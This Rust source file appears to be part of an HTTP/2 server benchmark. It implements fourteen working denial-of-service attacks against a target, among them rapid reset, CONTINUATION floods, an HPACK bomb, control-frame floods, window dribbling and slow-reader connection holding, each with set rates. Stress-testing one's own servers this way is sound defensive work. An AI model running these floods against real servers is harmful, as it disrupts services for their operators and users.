//! HTTP/2: frames that are legal or nearly so, and too many or too much work.
//!
//! The invariant: what the server sends is read unless the attack is not to read, so that it is the
//! server's work that is abused and not its patience with readers.

use std::io::{self, ErrorKind};
use std::time::Duration;

use ringway_bench_h2::encode::{self, Literal};
use ringway_bench_h2::frame::{
    self, MAX_WINDOW, PREFACE, WINDOW, code, flag, kind, put, put_reset, setting,
};

use super::Attack;
use crate::pacer::{Pacer, Signals};
use crate::site::{LARGE, PAGE};
use crate::target::{Target, Tls};

/// All of them.
pub(super) const ALL: [Attack; 14] = [
    attack(
        "rapid-reset",
        "20,000 requests a second, each cancelled at once",
        "requests",
        rapid_reset,
    ),
    attack(
        "made-you-reset",
        "5,000 streams a second that the server is made to reset, by WINDOW_UPDATE of nothing",
        "streams",
        made_you_reset,
    ),
    attack("malformed", "5,000 malformed heads a second", "heads", malformed),
    attack(
        "continuations",
        "100 connections a second, each with a head in sixty CONTINUATIONs and no end",
        "connections",
        continuations,
    ),
    attack(
        "hpack-bomb",
        "100 heads a second that refer 16,000 times to a field of 3,900 bytes",
        "heads",
        hpack_bomb,
    ),
    attack("cookies", "200 heads a second with 2,000 crumbs of a cookie each", "heads", cookies),
    attack("pings", "20,000 PINGs a second", "frames", pings),
    attack("settings", "10,000 SETTINGS a second", "frames", settings),
    attack("priorities", "20,000 PRIORITY_UPDATEs a second", "frames", priorities),
    attack("empty-data", "20,000 DATA frames without content a second", "frames", empty_data),
    attack("window-updates", "20,000 WINDOW_UPDATEs of a byte a second", "frames", window_updates),
    attack(
        "dribble",
        "100 streams of a 64 MiB file whose windows open by a byte, 10,000 a second together",
        "bytes",
        dribble,
    ),
    attack(
        "zero-windows",
        "100 connections of 100 streams each that ask for 64 MiB and open no window",
        "looks",
        zero_windows,
    ),
    attack(
        "slow-readers",
        "200 connections of 10 streams each with wide windows that read 10 KB/s",
        "reads",
        slow_readers,
    ),
];

const fn attack(
    name: &'static str,
    what: &'static str,
    unit: &'static str,
    run: fn(&Target, &Signals),
) -> Attack {
    Attack { name, what, unit, run }
}

/// A connection.
struct Http2 {
    tls: Tls,
    next: u32,
}

impl Http2 {
    fn open(target: &Target, settings: &[(u16, u32)]) -> io::Result<Self> {
        let mut tls = target.http2()?;
        let mut out = PREFACE.to_vec();
        frame::put_settings(&mut out, settings);
        tls.send(&out)?;
        Ok(Self { tls, next: 1 })
    }

    fn number(&mut self) -> u32 {
        self.next += 2;
        self.next - 2
    }

    /// Queues a head on a new stream.
    fn head(&mut self, out: &mut Vec<u8>, block: &[u8], flags: u8) -> u32 {
        let stream = self.number();
        put(out, kind::HEADERS, flag::END_HEADERS | flags, stream, block);
        stream
    }

    /// Reads what has come.
    fn drain(&mut self) -> io::Result<()> {
        let mut piece = [0; 16 << 10];
        self.tls.socket.set_read_timeout(Some(Duration::from_micros(1)))?;
        loop {
            match self.tls.read(&mut piece) {
                Ok(0) => return Err(ErrorKind::UnexpectedEof.into()),
                Ok(_) => {}
                Err(error)
                    if [ErrorKind::WouldBlock, ErrorKind::TimedOut].contains(&error.kind()) =>
                {
                    return Ok(());
                }
                Err(error) => return Err(error),
            }
        }
    }
}

fn get(file: &str) -> Vec<u8> {
    asking("GET", &format!("/{file}"), &[])
}

fn asking(method: &str, path: &str, more: &[(&str, &str)]) -> Vec<u8> {
    let fields =
        [(":method", method), (":scheme", "https"), (":path", path), (":authority", "localhost")];
    encode::block(fields.into_iter().chain(more.iter().copied()))
}

/// Keeps a connection and sends what `act` queues so many times a second; `act` answers with how
/// much of the attack that was. A connection that the server ended is made anew.
fn again(
    target: &Target,
    signals: &Signals,
    rate: f64,
    settings: &[(u16, u32)],
    mut act: impl FnMut(&mut Http2, &mut Vec<u8>) -> u64,
) {
    let mut connection = None;
    signals.ready();
    let mut pacer = Pacer::new(rate);
    let mut out = Vec::new();
    while pacer.wait(signals) {
        if connection.is_none() {
            connection = Http2::open(target, settings).ok();
        }
        let Some(http2) = &mut connection else {
            signals.turned_away();
            continue;
        };
        out.clear();
        let count = act(http2, &mut out);
        if http2.tls.send(&out).and_then(|()| http2.drain()).is_ok() {
            signals.did(count);
        } else {
            signals.turned_away();
            connection = None;
        }
    }
}

/// Sends the same frame a hundred times, so many hundreds a second.
fn frames(target: &Target, signals: &Signals, rate: f64, of: fn(&mut Vec<u8>)) {
    again(target, signals, rate, &[], |_, out| {
        (0..100).for_each(|_| of(out));
        100
    });
}

fn rapid_reset(target: &Target, signals: &Signals) {
    let block = get(PAGE.0);
    again(target, signals, 200.0, &[], |http2, out| {
        for _ in 0..100 {
            let stream = http2.head(out, &block, flag::END_STREAM);
            put_reset(out, stream, code::CANCEL);
        }
        100
    });
}

fn made_you_reset(target: &Target, signals: &Signals) {
    let block = get(PAGE.0);
    again(target, signals, 100.0, &[(setting::INITIAL_WINDOW_SIZE, 0)], |http2, out| {
        for _ in 0..50 {
            let stream = http2.head(out, &block, flag::END_STREAM);
            frame::put_window_update(out, stream, 0);
        }
        50
    });
}

fn malformed(target: &Target, signals: &Signals) {
    let block = asking("GET", "/", &[("connection", "close")]);
    again(target, signals, 100.0, &[], |http2, out| {
        for _ in 0..50 {
            http2.head(out, &block, flag::END_STREAM);
        }
        50
    });
}

fn continuations(target: &Target, signals: &Signals) {
    signals.ready();
    let mut pacer = Pacer::new(100.0);
    let mut out = Vec::new();
    put(&mut out, kind::HEADERS, flag::END_STREAM, 1, &get(PAGE.0));
    for _ in 0..60 {
        put(&mut out, kind::CONTINUATION, 0, 1, &[0x82; 1000]);
    }
    while pacer.wait(signals) {
        // It is ended by whoever has had enough.
        let sent = Http2::open(target, &[]).and_then(|mut http2| http2.tls.send(&out));
        if sent.is_ok() { signals.did(1) } else { signals.turned_away() }
    }
}

fn hpack_bomb(target: &Target, signals: &Signals) {
    let mut block = get(PAGE.0);
    encode::literal(&mut block, Literal::Indexed, b"bomb", &[b'x'; 3900]);
    (0..12_000).for_each(|_| encode::indexed(&mut block, 62));
    again(target, signals, 100.0, &[], |http2, out| {
        http2.head(out, &block, flag::END_STREAM);
        1
    });
}

fn cookies(target: &Target, signals: &Signals) {
    let mut block = get(PAGE.0);
    encode::literal(&mut block, Literal::Indexed, b"cookie", b"a=b");
    (0..2000).for_each(|_| encode::indexed(&mut block, 62));
    again(target, signals, 200.0, &[], |http2, out| {
        http2.head(out, &block, flag::END_STREAM);
        1
    });
}

fn pings(target: &Target, signals: &Signals) {
    frames(target, signals, 200.0, |out| put(out, kind::PING, 0, 0, b"attacker"));
}

fn settings(target: &Target, signals: &Signals) {
    frames(target, signals, 100.0, |out| put(out, kind::SETTINGS, 0, 0, &[]));
}

fn priorities(target: &Target, signals: &Signals) {
    frames(target, signals, 200.0, |out| {
        put(out, kind::PRIORITY_UPDATE, 0, 0, b"\0\0\0\x01u=1");
    });
}

fn window_updates(target: &Target, signals: &Signals) {
    frames(target, signals, 200.0, |out| frame::put_window_update(out, 0, 1));
}

fn empty_data(target: &Target, signals: &Signals) {
    let block = asking("POST", "/", &[]);
    again(target, signals, 200.0, &[], |http2, out| {
        if http2.next == 1 {
            http2.head(out, &block, 0);
        }
        (0..100).for_each(|_| put(out, kind::DATA, 0, 1, b""));
        100
    });
}

fn dribble(target: &Target, signals: &Signals) {
    let block = get(LARGE.0);
    again(target, signals, 100.0, &[(setting::INITIAL_WINDOW_SIZE, 0)], |http2, out| {
        if http2.next == 1 {
            frame::put_window_update(out, 0, MAX_WINDOW - WINDOW);
            for _ in 0..100 {
                http2.head(out, &block, flag::END_STREAM);
            }
        }
        (0..100).for_each(|number| frame::put_window_update(out, 2 * number + 1, 1));
        100
    });
}

/// Holds connections with streams that ask for the large file, and gives each a turn so many times
/// a second.
fn hold(
    target: &Target,
    signals: &Signals,
    (connections, streams): (usize, usize),
    (settings, window): (&[(u16, u32)], u32),
    turn: impl Fn(&mut Http2) -> io::Result<()>,
) {
    let block = get(LARGE.0);
    let open = || {
        let mut http2 = Http2::open(target, settings)?;
        let mut out = Vec::new();
        if window > 0 {
            frame::put_window_update(&mut out, 0, window);
        }
        for _ in 0..streams {
            http2.head(&mut out, &block, flag::END_STREAM);
        }
        http2.tls.send(&out)?;
        http2.tls.socket.set_nonblocking(true)?;
        Ok::<_, io::Error>(http2)
    };
    let mut held: Vec<Option<Http2>> = Vec::new();
    while held.len() < connections && !signals.stopped() {
        held.push(open().ok());
    }
    signals.ready();
    let mut pacer = Pacer::new(connections as f64 * 10.0);
    'attack: loop {
        for place in &mut held {
            if !pacer.wait(signals) {
                break 'attack;
            }
            let Some(http2) = place else {
                *place = open().ok();
                continue;
            };
            match turn(http2) {
                Ok(()) => signals.did(1),
                Err(error) if error.kind() == ErrorKind::WouldBlock => {}
                Err(_) => {
                    signals.turned_away();
                    *place = None;
                }
            }
        }
    }
}

fn read_some(http2: &mut Http2) -> io::Result<()> {
    match http2.tls.read(&mut [0; 1000])? {
        0 => Err(ErrorKind::UnexpectedEof.into()),
        _ => Ok(()),
    }
}

fn zero_windows(target: &Target, signals: &Signals) {
    hold(target, signals, (100, 100), (&[(setting::INITIAL_WINDOW_SIZE, 0)], 0), read_some);
}

fn slow_readers(target: &Target, signals: &Signals) {
    let wide = [(setting::INITIAL_WINDOW_SIZE, MAX_WINDOW)];
    hold(target, signals, (200, 10), (&wide, MAX_WINDOW - WINDOW), read_some);
}
